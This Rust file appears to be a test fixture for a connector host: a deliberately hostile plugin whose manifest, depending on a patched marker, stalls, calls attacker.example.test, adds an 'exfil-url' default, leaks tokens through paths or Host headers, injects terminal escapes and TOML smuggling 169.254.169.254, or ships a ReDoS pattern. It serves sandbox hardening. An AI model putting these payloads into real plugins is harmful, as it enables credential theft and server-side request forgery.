//! What the connector says of itself: honest, or whatever the marker in its binary says.

use crate::bindings::muster::connector::manifest::{
    Credential, Description, Parameter, Rate, Route, RouteUse, Setting, SettingKind,
};
use crate::bindings::muster::connector::types::{Kind, ResourceType};
use crate::bindings::muster::connector::{collector, settings};
use crate::bindings::wasi::clocks::{monotonic_clock, wall_clock};
use crate::bindings::wasi::random::{insecure, insecure_seed, random};
use crate::{http, records, resources};
use std::hint::black_box;
use std::sync::atomic::{AtomicU32, Ordering::Relaxed};

/// `describe` has no settings: the tests write another word into the built file.
static MARKER: [u8; 32] = *b"describe-mode:honest............";

/// Counts the calls of this instance.
static CALLS: AtomicU32 = AtomicU32::new(0);

fn word() -> String {
    let marker: &[u8; 32] = black_box(&MARKER);
    let text: String = black_box(*marker).iter().map(|byte| char::from(*byte)).collect();
    text.split(':').nth(1).unwrap_or_default().trim_end_matches('.').to_owned()
}

/// The manifest.
pub fn describe() -> Description {
    let mut manifest = honest();
    match word().as_str() {
        "spin" => resources::spin(),
        "wait" => monotonic_clock::subscribe_duration(3_600_000_000_000).block(),
        "trap" => std::process::abort(),
        "pure" => {
            let clocks = (wall_clock::now().seconds, monotonic_clock::now());
            let random =
                (random::get_random_u64(), insecure::get_insecure_random_u64(), insecure_seed::insecure_seed());
            manifest.summary = format!("{clocks:?} {random:?} {}", CALLS.fetch_add(1, Relaxed));
        }
        "request" => {
            let answer = http::send(&http::Request::to("GET", "https://attacker.example.test/describe"));
            manifest.summary = format!("{answer:?}");
        }
        "emit" => drop(collector::emit(&[records::person("early", "Early")])),
        "settings" => {
            let seen = ["token", "mode", "base-url", "run-date"].map(settings::get);
            manifest.summary = format!("{seen:?}");
        }
        "log" => (0..5000).for_each(|n| crate::warn(&format!("describe says {n}"))),
        "name" => manifest.name = "support".to_owned(),
        "default" => manifest.settings.extend([setting("exfil-url", SettingKind::Url, false, Some(ATTACKER))]),
        "secret-default" => manifest.settings.extend([setting("other", SettingKind::Secret, false, Some("guess"))]),
        "text" => manifest.summary = "x".repeat(5000),
        "rows" => manifest.settings.extend((0..300).map(|n| optional(&format!("setting-{n}")))),
        "choices" => {
            let choices = (0..60_000).map(|n| format!("choice {n} {}", "x".repeat(90))).collect();
            manifest.settings.push(setting("other", SettingKind::Choice(choices), false, None));
        }
        "methods" => {
            let methods = vec!["GET".to_owned(); 200_000];
            let origin = "{base-url}".to_owned();
            manifest.routes.push(Route { origin, methods, path: "/many".to_owned(), use_: RouteUse::Read });
        }
        "megabytes" => manifest.display_name = "x".repeat(20 << 20),
        "escapes" => {
            let evil = "Nice\u{1b}[2J\u{202e}\r\nerror: forged";
            manifest.display_name = evil.to_owned();
            manifest.summary = evil.to_owned();
            let of = Setting {
                label: evil.to_owned(),
                help: evil.to_owned(),
                ..setting("other", SettingKind::Text, false, None)
            };
            manifest.settings.push(of);
        }
        "escapes-version" => manifest.version = "1\u{1b}[2J".to_owned(),
        "escapes-default" => {
            manifest.settings.push(setting("other", SettingKind::Text, false, Some("a\nerror: forged")));
        }
        "escapes-page" => manifest.documentation = Some("https://a.test/\u{202e}".to_owned()),
        "toml" => {
            let evil = "https://a.test\nallow-private = [\"169.254.169.254:80\"]\norigins = [\"https://b.test\"] #";
            manifest.routes.push(route(evil, &["GET"], "/x", RouteUse::Read));
            manifest.settings.push(setting("other", SettingKind::Text, false, Some("\"\"\"\n[connection.network]\n")));
        }
        "trace" => manifest.routes.push(route("{base-url}", &["TRACE"], "/x", RouteUse::Write)),
        "delete-to-read" => manifest.routes.push(route("{base-url}", &["DELETE"], "/x", RouteUse::Read)),
        "secret-path" => manifest.routes.push(route("{base-url}", &["GET"], "/x/{token}", RouteUse::Read)),
        "secret-origin" => manifest.routes.push(route("{token}", &["GET"], "/x", RouteUse::Read)),
        "framing" => manifest.credentials.push(credential("transfer-encoding", "chunked {token}")),
        "host" => manifest.credentials.push(credential("host", "{token}.attacker.example.test")),
        "pattern" => {
            let bomb = Setting { pattern: Some("((((a{999}){999}){999}){999}){999}".to_owned()), ..optional("other") };
            manifest.settings.push(bomb);
        }
        "pace" => manifest.rate = Some(Rate { requests: u32::MAX, per_seconds: 0, at_once: u32::MAX }),
        _ => {}
    }
    manifest
}

/// Where a hostile default points.
pub const ATTACKER: &str = "https://attacker.example.test";

fn honest() -> Description {
    let read = &["GET", "HEAD"][..];
    let writes = &["POST", "PUT", "PATCH", "DELETE"][..];
    let base = "{base-url}";
    Description {
        name: "hostile".to_owned(),
        version: "1.0.0".to_owned(),
        display_name: "Hostile".to_owned(),
        summary: "Attacks its host.".to_owned(),
        documentation: None,
        resource_types: vec![kind("user", Kind::User), kind("team", Kind::Group), kind("page", Kind::Other)],
        settings: vec![
            setting("mode", SettingKind::Text, true, None),
            setting("base-url", SettingKind::Url, true, None),
            setting("token", SettingKind::Secret, true, None),
            setting("second-url", SettingKind::Url, false, None),
            optional("target"),
            optional("method"),
            optional("headers"),
            optional("body"),
            optional("paths"),
            optional("count"),
            optional("pages"),
        ],
        routes: vec![
            route(base, read, "/*", RouteUse::Read),
            route(base, read, "/*/*", RouteUse::Read),
            route(base, read, "/api/teams/*/members", RouteUse::Read),
            route(base, &["POST"], "/search", RouteUse::ReadByPost),
            route(base, &["POST"], "/login", RouteUse::Login),
            route(base, writes, "/write/*", RouteUse::Write),
            route("{second-url}", read, "/*", RouteUse::Read),
            route("https://asked.example.test", read, "/*", RouteUse::Read),
        ],
        credentials: vec![credential("x-token", "Token {token}")],
        keeps_cookies: false,
        rate: None,
    }
}

fn kind(id: &str, kind: Kind) -> ResourceType {
    ResourceType { id: id.to_owned(), display_name: id.to_owned(), description: String::new(), kind }
}

fn optional(name: &str) -> Setting {
    setting(name, SettingKind::Text, false, None)
}

fn setting(name: &str, kind: SettingKind, required: bool, default: Option<&str>) -> Setting {
    Setting {
        name: name.to_owned(),
        label: name.to_owned(),
        help: "What the attack needs.".to_owned(),
        kind,
        required,
        default: default.map(str::to_owned),
        pattern: None,
    }
}

fn route(origin: &str, methods: &[&str], path: &str, use_: RouteUse) -> Route {
    let methods = methods.iter().map(|method| (*method).to_owned()).collect();
    Route { origin: origin.to_owned(), methods, path: path.to_owned(), use_ }
}

fn credential(header: &str, template: &str) -> Credential {
    let parameter = |name: &str, value: &str| Parameter { name: name.to_owned(), value: value.to_owned() };
    Credential {
        id: header.to_owned(),
        origin: "{base-url}".to_owned(),
        scheme: "header".to_owned(),
        parameters: vec![parameter("name", header), parameter("template", template)],
    }
}
